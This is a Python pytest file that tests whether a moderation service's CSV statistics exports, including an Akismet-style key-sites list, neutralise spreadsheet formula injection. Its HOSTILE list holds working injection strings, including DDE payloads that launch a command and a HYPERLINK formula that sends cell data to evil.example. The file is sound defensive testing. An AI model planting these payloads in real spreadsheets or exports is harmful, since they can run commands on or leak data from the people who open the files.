"""Tables that people open in a spreadsheet: no cell is a formula, whoever has named what is in it.

ASVS 1.2.10. What `winnow export` writes is JSON and Parquet: no spreadsheet makes formulas of them.
"""

import csv
import io
from collections.abc import Callable

import pytest
from flask.testing import FlaskClient

from api.moderation.services import Services
from api.moderation.stats.sheets import SHEETS, Sheet
from api.web.stats import write
from tests.factories import decide, put_policy, submit

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"\n=2+2',
    "a,=1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def check(text: str) -> None:
    """No cell is a formula; a number may be negative."""
    for cell in cells(text):
        assert is_number(cell) or not cell.startswith(STARTS), cell


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_says_what_it_said(hostile: str) -> None:
    written = write(Sheet(("name", "n"), [[hostile, -1.5], [None, 2]]))
    check(written)
    name = cells(written)[2]
    assert name.removeprefix("'") == hostile
    assert cells(written)[3] == "-1.5"


def test_every_table_that_can_be_had(
    connect: Callable[..., FlaskClient], backend: FlaskClient, services: Services, site: int
) -> None:
    """With reasons, rules, queues and authors of hostile names."""
    admin = connect("admin")
    hostile = HOSTILE[0]
    rules = [{"word": f"fnord{n}", "do": "hold", "name": f"n{n}"} for n in range(3)]
    put_policy(services, site, {"rules": rules})
    for number in range(6):
        found = submit(
            backend,
            f"fnord{number % 3}",
            author={"id": hostile, "name": hostile},
            article={"id": hostile, "title": hostile, "section": hostile},
        )
        decide(admin, found["id"], "reject", reason=HOSTILE[number], note=hostile)
    for name in SHEETS:
        answer = admin.get(f"/v1/stats/{name}.csv?days=7")
        assert answer.status_code == 200
        assert "attachment" in answer.headers["Content-Disposition"]
        check(answer.text)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_whoever_is_named_in_akismets_table(
    connect: Callable[..., FlaskClient], hostile: str
) -> None:
    """Sites that Akismet's clients name are in the list of what they have asked."""
    backend = connect("backend")
    key = backend.environ_base["HTTP_AUTHORIZATION"].removeprefix("Bearer ")
    given = {"api_key": key, "user_ip": "192.0.2.7", "comment_content": "Hello."}
    for blog in (hostile, f"https://{hostile}", "https://gazette.example"):
        backend.post("/1.1/comment-check", data={**given, "blog": blog})
    answer = backend.get(f"/1.2/key-sites?api_key={key}&format=csv")
    assert answer.status_code == 200, answer.text
    assert "gazette.example" in cells(answer.text)
    check(answer.text)
